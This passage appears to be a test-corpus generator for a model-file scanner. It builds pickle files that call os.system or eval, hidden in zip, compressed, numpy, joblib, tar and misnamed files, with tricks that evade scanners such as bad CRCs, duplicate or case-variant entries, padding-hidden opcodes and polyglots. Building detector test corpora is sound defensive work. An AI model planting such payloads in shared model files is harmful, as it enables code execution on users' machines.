    return build_zip([("data.pkl", call("builtins", "eval", (run_code(cmd),)), {"local": {"name": "datap.kl"}})])


@technique("zip_bad_crc.pt", "unsafe", "data.pkl with a wrong CRC (picklescan malicious1_crc): torch does not check, zipfile complains only after unpickling", "torch")
def t_zip_crc(cmd):
    return build_zip(torch_like(system(cmd, 2))[:1] + [("archive/data.pkl", system(cmd, 2), {"crc": 1234})])


@technique("zip_bad_crc_benign.pt", "suspicious", "a benign data.pkl with a wrong CRC: the zip itself is a trick")
def t_zip_crc_benign(cmd):
    return build_zip([("archive/data.pkl", BENIGN, {"crc": 1234})])


@technique("zip_encrypted_flag.pt", "unsafe", "flag bit 0x1 (encrypted) on plain data: scanners skip it, readers may not")
def t_zip_encrypted(cmd):
    return build_zip([("archive/data.pkl", system(cmd, 2), {"flags": 1})])


@technique("zip_encrypted_flag_benign.pt", "suspicious", "flag bit 0x1 on a benign data.pkl")
def t_zip_encrypted_benign(cmd):
    return build_zip([("archive/data.pkl", BENIGN, {"flags": 1})])


@technique("zip_flag_0x20_benign.pt", "suspicious", "flag bit 0x20 (compressed patched data)")
def t_zip_0x20(cmd):
    return build_zip([("archive/data.pkl", BENIGN, {"flags": 0x20})])


@technique("zip_flag_0x40_benign.pt", "suspicious", "flag bit 0x40 (strong encryption)")
def t_zip_0x40(cmd):
    return build_zip([("archive/data.pkl", BENIGN, {"flags": 0x40})])


@technique("zip_local_flags_differ_benign.pt", "suspicious", "local header flags differ from the central directory's")
def t_zip_local_flags(cmd):
    return build_zip([("archive/data.pkl", BENIGN, {"local": {"flags": 1}})])


@technique("zip_local_method_differs_benign.pt", "suspicious", "local header says deflate, the central directory says stored")
def t_zip_local_method(cmd):
    return build_zip([("archive/data.pkl", BENIGN, {"local": {"method": 8}})])


@technique("zip_duplicate_names.pt", "unsafe", "two archive/data.pkl entries: Python and torch read the last (malicious)", "torch")
def t_zip_dup(cmd):
    return build_zip([("archive/version", b"3\n", {}), ("archive/data.pkl", BENIGN, {}), ("archive/data.pkl", system(cmd, 2), {})])


@technique("zip_duplicate_names_benign.pt", "suspicious", "two identical names, both benign: a reader trick in itself")
def t_zip_dup_benign(cmd):
    return build_zip([("archive/data.pkl", BENIGN, {}), ("archive/data.pkl", BENIGN, {})])


@technique("zip_case_DATA_PKL.pt", "unsafe", "DATA.PKL next to data.pkl: torch's reader finds names case-insensitively")
def t_zip_case(cmd):
    return build_zip([("archive/data.pkl", BENIGN, {}), ("archive/DATA.PKL", system(cmd, 2), {})])


@technique("zip_case_only_DATA_PKL.pt", "unsafe", "only archive/DATA.PKL: torch.load finds it for data.pkl (case-insensitive lookup)", "torch")
def t_zip_case_only(cmd):
    return build_zip([("archive/version", b"3\n", {}), ("archive/DATA.PKL", system(cmd, 2), {})])


@technique("zip_torch_local_name_differs.pt", "unsafe", "torch layout whose local header names archive/datap.kl: torch ignores local names", "torch")
def t_zip_torch_name(cmd):
    return build_zip([("archive/version", b"3\n", {}), ("archive/data.pkl", system(cmd, 2), {"local": {"name": "archive/datap.kl"}})])


@technique("zip_case_benign.pt", "suspicious", "archive/data.pkl and archive/Data.pkl, both benign")
def t_zip_case_benign(cmd):
    return build_zip([("archive/data.pkl", BENIGN, {}), ("archive/Data.pkl", BENIGN, {})])


@technique("zip_pickle_named_txt.zip", "unsafe", "a pickle entry named data.txt (picklescan malicious1_wrong_ext)")
def t_zip_txt(cmd):
    return build_zip([("data.txt", call("builtins", "eval", (run_code(cmd),)), {})])


@technique("zip_pickle_entry_without_name.zip", "unsafe", "a pickle entry with no extension at all")
def t_zip_noext(cmd):
    return build_zip([("weights", system(cmd), {})])


@technique("zip_prepended_bytes_benign.zip", "suspicious", "bytes in front of the zip: Python's zipfile shifts offsets, torch does not")
def t_zip_prefix(cmd):
    return build_zip([("archive/data.pkl", BENIGN, {})], prefix=b"\x00" * 100)


@technique("zip_hidden_entry_benign.zip", "suspicious", "a local entry the central directory does not list (hidden bytes)")
def t_zip_hidden(cmd):
    return build_zip([("archive/data.pkl", BENIGN, {})], hidden=[("other.pkl", BENIGN)])


def zipfile_bytes(entries, compression):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))  # fixed, so the corpus is reproducible
            info.compress_type = compression
            z.writestr(info, data)
    return buf.getvalue()


@technique("zip_deflated_malicious.pt", "unsafe", "deflated data.pkl", "torch")
def t_zip_deflate(cmd):
    return zipfile_bytes([("archive/version", b"3\n"), ("archive/data.pkl", system(cmd, 2))], zipfile.ZIP_DEFLATED)


@technique("zip_bzip2_method.zip", "unsafe", "a bzip2-compressed entry (zip method 12, read by Python's zipfile)")
def t_zip_bz2(cmd):
    return zipfile_bytes([("data.pkl", system(cmd))], zipfile.ZIP_BZIP2)


@technique("zip_lzma_method.zip", "unsafe", "an LZMA-compressed entry (zip method 14, read by Python's zipfile)")
def t_zip_lzma(cmd):
    return zipfile_bytes([("data.pkl", system(cmd))], zipfile.ZIP_LZMA)


@technique("zip_unknown_method.pt", "error", "data.pkl compressed with a method no reader knows (99): cannot be judged")
def t_zip_method99(cmd):
    return build_zip([("archive/data.pkl", b"\x00" * 32, {"method": 99})])


@technique("torchscript_like.pt", "suspicious", "a TorchScript archive (code/*.py, constants.pkl): torch.load runs it via torch.jit.load")
def t_torchscript(cmd):
    return build_zip([("archive/code/__torch__/model.py", b"def forward(self):\n    return 1\n", {}), ("archive/constants.pkl", pickle.dumps((), protocol=2), {}),
                      ("archive/data.pkl", BENIGN, {})])


@technique("zip_in_zip_too_deep.zip", "error", "a pickle four archives deep: past the depth limit, not judged, never safe")
def t_zip_deep(cmd):
    data = system(cmd)
    for level in range(4):
        data = zipfile_bytes([("inner%d" % level, data)], zipfile.ZIP_STORED)
    return data


@technique("npz_object_array.npz", "unsafe", ".npz whose array is an object array (a pickle)", "numpy-npz")
def t_npz(cmd):
    return zipfile_bytes([("a.npy", npy("|O", (1,), system(cmd, 3)))], zipfile.ZIP_DEFLATED)


@technique("pickle_then_zip.pt", "unsafe", "a pickle with a zip appended: torch reads the pickle (no PK at byte 0), zipfile the zip", "torch")
def t_polyglot(cmd):
    return system(cmd, 2) + build_zip([("archive/data.pkl", BENIGN, {})])


@technique("pickle_then_zip_benign.pt", "suspicious", "a benign pickle with a benign zip appended: two readings of one file")
def t_polyglot_benign(cmd):
    return BENIGN + build_zip([("archive/data.pkl", BENIGN, {})])


# ---------------------------------------------------------------- compressed wrappers

@technique("malicious.pkl.gz", "unsafe", "gzip-compressed pickle", "pickle-gzip")
def t_gz(cmd):
    return gzip.compress(system(cmd), mtime=0)


@technique("malicious.pkl.bz2", "unsafe", "bz2-compressed pickle")
def t_bz2(cmd):
    return bz2.compress(system(cmd))


@technique("malicious.pkl.xz", "unsafe", "xz-compressed pickle")
def t_xz(cmd):
    return lzma.compress(system(cmd))


@technique("malicious_alone.lzma", "unsafe", "lzma 'alone' format pickle (joblib compress='lzma')")
def t_lzma(cmd):
    return lzma.compress(system(cmd), format=lzma.FORMAT_ALONE)


@technique("malicious_zlib.joblib", "unsafe", "zlib-compressed pickle (joblib's default compression)", "joblib")
def t_zlib(cmd):
    return zlib.compress(system(cmd), 3)


@technique("malicious_lz4.joblib", "unsafe", "LZ4 frame (joblib compress='lz4'), written by hand")
def t_lz4(cmd):
    return lz4_frame(system(cmd))


@technique("malicious_gzip_no_extension", "unsafe", "gzip-compressed pickle with no extension")
def t_gz_noext(cmd):
    return gzip.compress(system(cmd), mtime=0)


@technique("gzip_bomb.pkl.gz.gz", "error", "a gzip inside a gzip that expands to 200 MB: a bomb is an error, not a crash")
def t_bomb(cmd):
    inner = gzip.compress(b"\x00" * (200 << 20), compresslevel=9, mtime=0)
    return gzip.compress(inner, compresslevel=9, mtime=0)


@technique("joblib_zf_compat.pkl", "unsafe", "joblib < 0.10 'ZF' format: zlib after a hex length header")
def t_zf(cmd):
    data = system(cmd)
    return b"ZF" + ("0x%x" % len(data)).ljust(19).encode() + zlib.compress(data)


@technique("tar_legacy_torch.tar", "unsafe", "torch's oldest (tar) checkpoint format: its 'pickle' member runs the payload")
def t_tar(cmd):
    return tar_bytes([("pickle", system(cmd, 2)), ("sys_info", pickle.dumps({}, protocol=2))])


@technique("tar_gz_bundle.tar.gz", "unsafe", "a .tar.gz bundle holding a malicious model.pkl")
def t_tar_gz(cmd):
    return gzip.compress(tar_bytes([("model/model.pkl", system(cmd))]), mtime=0)


def tar_bytes(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def xxh32(data, seed=0):
    p1, p2, p3, p4, p5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393
    mask = 0xFFFFFFFF

    def rotl(x, r):
        return ((x << r) | (x >> (32 - r))) & mask

    n, i = len(data), 0
    if n >= 16:
        v = [(seed + p1 + p2) & mask, (seed + p2) & mask, seed, (seed - p1) & mask]
        while i + 16 <= n:
            for k in range(4):
                lane = struct.unpack_from("<I", data, i + 4 * k)[0]
                v[k] = (rotl((v[k] + lane * p2) & mask, 13) * p1) & mask
            i += 16
        h = (rotl(v[0], 1) + rotl(v[1], 7) + rotl(v[2], 12) + rotl(v[3], 18)) & mask
    else:
        h = (seed + p5) & mask
    h = (h + n) & mask
    while i + 4 <= n:
        h = (rotl((h + struct.unpack_from("<I", data, i)[0] * p3) & mask, 17) * p4) & mask
        i += 4
    while i < n:
        h = (rotl((h + data[i] * p5) & mask, 11) * p1) & mask
        i += 1
    h ^= h >> 15
    h = (h * p2) & mask
    h ^= h >> 13
    h = (h * p3) & mask
    return h ^ (h >> 16)


def lz4_frame(data):
    descriptor = bytes([0x60, 0x70])  # version 1, independent blocks; 4 MiB blocks
    header = b"\x04\x22\x4d\x18" + descriptor + bytes([(xxh32(descriptor) >> 8) & 0xFF])
    return header + struct.pack("<I", len(data) | 0x80000000) + data + b"\x00\x00\x00\x00"


# ---------------------------------------------------------------- numpy

def npy(descr, shape, payload, header=None):
    text = header if header is not None else "{'descr': %s, 'fortran_order': False, 'shape': %r, }" % (descr if descr.startswith("[") else repr(descr), shape)
    raw = text.encode("latin1")
    pad = 64 - (10 + len(raw) + 1) % 64
    raw += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + payload


@technique("npy_object_array.npy", "unsafe", ".npy object array: np.load(allow_pickle=True) unpickles it", "numpy")
def t_npy(cmd):
    return npy("|O", (1,), system(cmd, 3))


@technique("npy_escaped_descr.npy", "unsafe", ".npy header descr '|\\x4f': literal_eval decodes it to object dtype", "numpy")
def t_npy_escape(cmd):
    return npy(None, None, system(cmd, 3), header="{'descr': '|\\x4f', 'fortran_order': False, 'shape': (1,), }")


@technique("npy_structured_object.npy", "unsafe", ".npy structured dtype with an object field")
def t_npy_struct(cmd):
    return npy("[('a', '<i4'), ('b', '|O')]", (1,), system(cmd, 3))


@technique("npy_float_with_trailing_pickle.npy", "suspicious", ".npy of one float followed by a pickle numpy never reads")
def t_npy_trailing(cmd):
    return npy("<f8", (1,), b"\x00" * 8 + system(cmd, 3))


@technique("npy_bad_header.npy", "error", ".npy whose header is not a Python literal")
def t_npy_bad(cmd):
    return npy(None, None, b"", header="{'descr': __import__('os'), 'shape': (1,)}")


# ---------------------------------------------------------------- joblib by hand

def joblib_wrapper(shape, dtype="f8", alignment=16, flags=0):
    state = (enc("subclass") + import_op("numpy", "ndarray") + enc("shape") + enc(tuple(shape)) + enc("order") + enc("C")
             + enc("dtype") + import_op("numpy", "dtype") + enc(dtype) + P.NEWFALSE + P.NEWTRUE + P.TUPLE3 + P.REDUCE
             + enc((3, "<" if dtype != "O8" else "|", None, None, None, -1, -1, flags)) + P.BUILD
             + enc("allow_mmap") + P.NEWTRUE)
    if alignment is not None:
        state += enc("numpy_array_alignment_bytes") + enc(alignment)
    return (import_op("joblib.numpy_pickle", "NumpyArrayWrapper") + P.EMPTY_TUPLE + P.NEWOBJ + P.EMPTY_DICT + P.MARK + state
            + P.SETITEMS + P.BUILD)


def joblib_file(items):
    """items: list of (key, opcodes, raw bytes that joblib reads after the BUILD)."""
    out = bytearray(P.PROTO + b"\x04" + P.EMPTY_DICT + P.MARK)
    for key, ops, raw in items:
        out += enc(key) + ops
        out += raw(len(out)) if callable(raw) else raw
    out += P.SETITEMS + P.STOP
    return bytes(out)


def padded(data, alignment=16):
    def at(position):
        pad = alignment - ((position + 1) % alignment)
        return bytes([pad]) + b"\xff" * pad + data
    return at


@technique("joblib_payload_after_array.joblib", "unsafe", "joblib file: an array's raw bytes, then a payload (scanners that stop at the array miss it)", "joblib")
def t_joblib_after(cmd):
    return joblib_file([("w", joblib_wrapper((2,)), padded(struct.pack("<2d", 1, 2))), ("x", system(cmd)[2:-1], b"")])


@technique("joblib_padding_hides_opcodes.joblib", "unsafe", "joblib array padding that pickle.load reads as opcodes (os.system): joblib skips it, pickle runs it", "pickle")
def t_joblib_padding(cmd):
    hidden = b"os\nsystem\n" + v0(cmd) + P.TUPLE1 + P.REDUCE + P.STOP
    pad = hidden + b"\xff" * (ord("c") - len(hidden))
    return joblib_file([("w", joblib_wrapper((1,)), b"c" + pad + struct.pack("<d", 1))])


@technique("joblib_object_array.joblib", "unsafe", "joblib object array: a nested pickle inside the joblib pickle", "joblib")
def t_joblib_object(cmd):
    return joblib_file([("o", joblib_wrapper((1,), "O8", None, 63), system(cmd, 2))])


@technique("joblib_flags_contradict.joblib", "suspicious", "joblib array whose dtype says object but whose flags say plain bytes")
def t_joblib_flags(cmd):
    return joblib_file([("o", joblib_wrapper((1,), "O8", 16, 0), padded(b"\x00" * 8))])


# ---------------------------------------------------------------- safetensors

def safetensors(header, data, length=None):
    text = json.dumps(header).encode() if isinstance(header, dict) else header
    return struct.pack("<Q", len(text) if length is None else length) + text + data


@technique("really_a_pickle.safetensors", "unsafe", "a pickle named .safetensors", "pickle")
def t_st_pickle(cmd):
    return system(cmd)


@technique("benign_pickle.safetensors", "suspicious", "a benign pickle named .safetensors: not what it claims to be")
def t_st_benign_pickle(cmd):
    return BENIGN


@technique("safetensors_overlap.safetensors", "error", "safetensors tensors whose data overlaps")
def t_st_overlap(cmd):
    return safetensors({"a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}, "b": {"dtype": "U8", "shape": [4], "data_offsets": [2, 6]}}, b"\x00" * 6)


@technique("safetensors_past_end.safetensors", "error", "safetensors offsets past the end of the file")
def t_st_past(cmd):
    return safetensors({"a": {"dtype": "F32", "shape": [1000], "data_offsets": [0, 4000]}}, b"\x00" * 8)


@technique("safetensors_bad_dtype.safetensors", "error", "safetensors with an unknown dtype")
def t_st_dtype(cmd):
    return safetensors({"a": {"dtype": "PICKLE", "shape": [1], "data_offsets": [0, 1]}}, b"\x00")


@technique("safetensors_huge_header.safetensors", "error", "safetensors header length beyond the file")
def t_st_huge(cmd):
    return safetensors(b'{"a": 1}', b"", length=2 ** 40)


@technique("safetensors_duplicate_key.safetensors", "suspicious", "safetensors header with a duplicate key (readers keep different ones)")
def t_st_dup(cmd):
    return safetensors(b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}', b"\x00")


# ---------------------------------------------------------------- any name or none

@technique("README", "unsafe", "a pickle with no extension")
def t_noext(cmd):
    return system(cmd)


@technique("config.json", "unsafe", "a pickle named .json")
def t_json(cmd):
    return system(cmd, 0)


@technique("image.png", "unsafe", "a pickle named .png")
def t_png(cmd):
    return system(cmd, 2)


@technique("weights.npy", "unsafe", "a pickle named .npy (not a numpy file)")
def t_npy_name(cmd):
    return system(cmd, 2)


@technique("not_a_pytorch_file.pt", "error", "a PNG named .pt (picklescan bad_pytorch): not what it claims, never safe")
def t_png_pt(cmd):
    return b"\x89PNG\r\n\x1a\n"


def main():
    os.makedirs(OUT, exist_ok=True)
    for name in os.listdir(OUT):
        os.remove(os.path.join(OUT, name))
    rows = []
    for name, (expected, what, build, loader) in TECHNIQUES.items():
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(build(COMMAND))
        rows.append("\t".join((name, expected, what)))
    with open(os.path.join(OUT, "manifest.tsv"), "w", encoding="utf-8") as f:
        f.write("# file\texpected verdict\ttechnique (generated by ejb/src/test/corpus/make_corpus.py)\n")
        f.write("\n".join(rows) + "\n")
    print("wrote %d files to %s" % (len(rows), OUT), file=sys.stderr)


if __name__ == "__main__":
    main()
